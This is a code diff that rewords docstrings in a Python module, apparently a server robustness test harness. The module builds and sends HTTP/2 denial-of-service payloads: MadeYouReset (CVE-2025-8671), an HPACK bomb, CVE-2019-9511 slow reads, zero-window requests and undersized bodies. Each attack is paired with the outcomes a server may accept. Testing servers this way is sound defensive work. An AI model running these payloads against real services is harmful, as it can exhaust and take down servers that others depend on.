@@ -1,4 +1,4 @@
-"""What attackers have sent to servers of HTTP/2, and a connection that sends it and looks."""
+"""Known denial-of-service attacks on HTTP/2 servers, and a connection that runs them."""
 
 import gzip
 import select
@@ -21,7 +21,7 @@ CLOSED = "closed"
 
 _PATIENCE_SECONDS = 20
 _QUIET_SECONDS = 2.0
-"""A server on a machine that others use may be silent for as long."""
+"""Seconds of silence after which the server is taken to be done; long, for busy machines."""
 _MIB = 1 << 20
 _BLOCK = literals(request_headers(LIVE))
 _INFER_BLOCK = literals(request_headers(INFER))
@@ -29,7 +29,7 @@ _MESSAGE = framed(infer_request("wide", 1))
 
 
 class Attacker:
-    """One connection; reads while it sends, as far as it reads at all."""
+    """One connection, which keeps reading while it sends unless told not to."""
 
     def __init__(self, url: str, *values: tuple[int, int], greets: bool = True) -> None:
         host, _, port = url.rpartition(":")
@@ -37,7 +37,7 @@ class Attacker:
         self._socket.setblocking(False)
         self._rest = b""
         self.came: list[Frame] = []
-        """The frames that came, without the bodies of DATA."""
+        """Frames received, without the bodies of DATA."""
         self.ended = False
         if greets:
             self.send(frames.PREFACE, frames.settings(*values), frames.SETTINGS_ACK)
@@ -46,12 +46,12 @@ class Attacker:
         self._socket.close()
 
     def finish(self) -> None:
-        """Say that nothing comes any more; what the server says is read on."""
+        """Close the sending side; responses are still read."""
         with suppress(OSError):
             self._socket.shutdown(socket.SHUT_WR)
 
     def send(self, *parts: Frame | bytes, reads: bool = True) -> None:
-        """Send as much as the server takes, up to its GOAWAY or the end of the connection."""
+        """Send as much as the server accepts, until GOAWAY or the connection's end."""
         unsent = memoryview(b"".join(map(bytes, parts)))
         end = time.monotonic() + _PATIENCE_SECONDS
         while unsent and not self.ended and self.goaway is None and time.monotonic() < end:
@@ -64,24 +64,24 @@ class Attacker:
                 except ConnectionError:
                     self.ended = True
             elif not readable and not reads:
-                return  # neither side reads: this is all that goes in
+                return  # neither side reads: the buffers are full
 
     def read(self, until: Callable[[], bool]) -> None:
-        """Read until what is awaited is there, or the end."""
+        """Read until a condition holds or the connection ends."""
         end = time.monotonic() + _PATIENCE_SECONDS
         while not self.ended and not until() and time.monotonic() < end:
             if self._ready(reads=True, seconds=1)[0]:
                 self._receive()
 
     def look(self) -> bool:
-        """Read what is there, without waiting; tell whether there was something."""
+        """Read without blocking; return whether there was anything."""
         before = len(self.came), self.ended
         while not self.ended and self._ready(reads=True)[0]:
             self._receive()
         return before != (len(self.came), self.ended)
 
     def _ready(self, *, reads: bool, writes: bool = False, seconds: float = 0) -> tuple[bool, bool]:
-        # select() takes no descriptor above 1023.
+        # select() cannot handle descriptors above 1023.
         poll = select.poll()
         poll.register(self._socket, select.POLLIN * reads | select.POLLOUT * writes)
         events = dict(poll.poll(seconds * 1000)).get(self._socket.fileno(), 0)
@@ -101,7 +101,7 @@ class Attacker:
 
     @property
     def goaway(self) -> str | None:
-        """The code with which the server ends the connection."""
+        """The error code of the server's GOAWAY, or None."""
         for frame in self.came:
             if frame.kind == Kind.GOAWAY:
                 return Error(int.from_bytes(frame.payload[4:8], "big")).name
@@ -109,11 +109,11 @@ class Attacker:
 
     @property
     def outcome(self) -> str:
-        """Return the code of the GOAWAY, `closed` where there is none, or `open`."""
+        """Return the error code of GOAWAY, `closed` without one, or `open`."""
         return self.goaway or (CLOSED if self.ended else OPEN)
 
     def statuses(self) -> set[str]:
-        """Return the statuses of the requests that have ended, or the codes of their resets."""
+        """Return the statuses of completed requests and the error codes of reset ones."""
         found = set()
         for frame in self.came:
             _, name, value = frame.payload.partition(b"grpc-status")
@@ -125,7 +125,7 @@ class Attacker:
 
 
 def outcomes(*attackers: Attacker) -> set[str]:
-    """Read until nothing comes any more; return what became of the connections."""
+    """Read until the server is silent; return the outcomes of the connections."""
     quiet_since = time.monotonic()
     while time.monotonic() - quiet_since < _QUIET_SECONDS:
         if all(attacker.ended for attacker in attackers):
@@ -137,15 +137,15 @@ def outcomes(*attackers: Attacker) -> set[str]:
 
 
 class Attack(NamedTuple):
-    """One attack, and how its connections may end."""
+    """An attack, and the acceptable outcomes of its connections."""
 
     run: Callable[[str], set[str]]
-    """Takes the address; returns the outcomes of its connections."""
+    """Runs it against an address; returns the outcomes of its connections."""
     outcomes: frozenset[str]
 
 
 def one(*parts: Callable[[], bytes], reads: bool = True) -> Callable[[str], set[str]]:
-    """Attack from one connection, with bytes that are made first."""
+    """Attack from one connection with bytes that are generated first."""
 
     def run(url: str) -> set[str]:
         with ExitStack() as stack:
@@ -159,7 +159,7 @@ def one(*parts: Callable[[], bytes], reads: bool = True) -> Callable[[str], set[
 
 
 def many(count: int, *parts: Callable[[], bytes], reads: bool = True) -> Callable[[str], set[str]]:
-    """Attack from many connections, all of them open until the last has sent."""
+    """Attack from many connections, all kept open until the last one has sent."""
 
     def run(url: str) -> set[str]:
         octets = b"".join(part() for part in parts)
@@ -190,7 +190,7 @@ def _resets() -> bytes:
 
 
 def _made_resets() -> bytes:
-    """CVE-2025-8671: the server is brought to reset what it has begun."""
+    """CVE-2025-8671 (MadeYouReset): provoke the server to reset streams itself."""
     return b"".join(
         bytes(frames.headers(stream, _BLOCK, end_stream=True)) + bytes(frames.data(stream, b"x"))
         for stream in _streams(10_000)
@@ -198,7 +198,7 @@ def _made_resets() -> bytes:
 
 
 def _bomb() -> bytes:
-    """A header of 4 KB in the table, and then its index, twelve thousand times."""
+    """HPACK bomb: a 4 KB header in the table, then its index twelve thousand times."""
     block = b"\x40\x01a" + frames.integer(4000, 7) + b"v" * 4000 + b"\xbe" * 12_000
     return bytes(frames.headers(1, _BLOCK + block))
 
@@ -214,7 +214,7 @@ def _large_headers() -> bytes:
 
 
 def _unread_body(size: int) -> bytes:
-    """A message that says that it is longer than what comes."""
+    """Announce a longer message than is sent."""
     prefix = b"\0" + (15 * _MIB).to_bytes(4, "big")
     body = [prefix, *[bytes(16_384)] * (size // 16_384)]
     return _open(1, _INFER_BLOCK) + b"".join(bytes(frames.data(1, part)) for part in body)
@@ -227,7 +227,7 @@ def _declared(declared: int, size: int) -> bytes:
 
 
 def ask_for_answers(count: int) -> bytes:
-    """Ask the model `wide` so many times at once."""
+    """Send `count` requests to the model `wide` in one go."""
     return b"".join(
         bytes(frames.headers(stream, _INFER_BLOCK))
         + bytes(frames.data(stream, _MESSAGE, end_stream=True))
@@ -236,7 +236,7 @@ def ask_for_answers(count: int) -> bytes:
 
 
 def _window_of_nothing(url: str) -> set[str]:
-    """Ask for two hundred megabytes, and take none of them."""
+    """Request two hundred megabytes with a window of zero."""
     with ExitStack() as stack:
         attacker = Attacker(url, (Setting.INITIAL_WINDOW_SIZE, 0))
         stack.callback(attacker.close)
@@ -245,7 +245,7 @@ def _window_of_nothing(url: str) -> set[str]:
 
 
 def _dribble(url: str) -> set[str]:
-    """CVE-2019-9511: take an answer byte by byte."""
+    """CVE-2019-9511: read a response byte by byte."""
     with ExitStack() as stack:
         attacker = Attacker(url, (Setting.INITIAL_WINDOW_SIZE, 0))
         stack.callback(attacker.close)
@@ -276,7 +276,7 @@ def _short_visits(url: str) -> set[str]:
 def _one_message(
     message: bytes, *lines: tuple[str, str], flag: int = 0
 ) -> Callable[[str], set[str]]:
-    """Send a message and return the status of the answer."""
+    """Send a message and return the status of the response."""
 
     def run(url: str) -> set[str]:
         with ExitStack() as stack:
@@ -284,7 +284,7 @@ def _one_message(
             stack.callback(attacker.close)
             body = bytes((flag,)) + len(message).to_bytes(4, "big") + message
             attacker.send(frames.headers(1, literals(request_headers(INFER, *lines))))
-            # It does not wait for the window: a server that is to be attacked has to take it.
+            # Ignore the flow-control window: a server under attack must cope with that.
             for at in range(0, len(body), 16_384):
                 part = body[at : at + 16_384]
                 attacker.send(frames.data(1, part, end_stream=at + 16_384 >= len(body)))
@@ -353,4 +353,4 @@ ATTACKS = {
         _ends("grpc-status 8"),
     ),
 }
-"""What was measured to hurt grpclib and h2, each in a size that takes a moment to send."""
+"""Attacks that measurably hurt grpclib and h2, each sized to take only a moment to send."""
